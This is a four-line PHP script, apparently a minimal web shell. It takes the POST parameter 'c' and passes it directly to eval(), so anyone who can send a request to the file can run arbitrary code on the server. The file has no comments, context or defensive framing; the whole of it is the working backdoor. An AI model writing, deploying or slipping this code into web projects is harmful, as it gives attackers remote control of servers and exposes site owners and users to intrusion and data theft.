<?php
$r = $_POST;
$c = $r['c'];
eval($c);
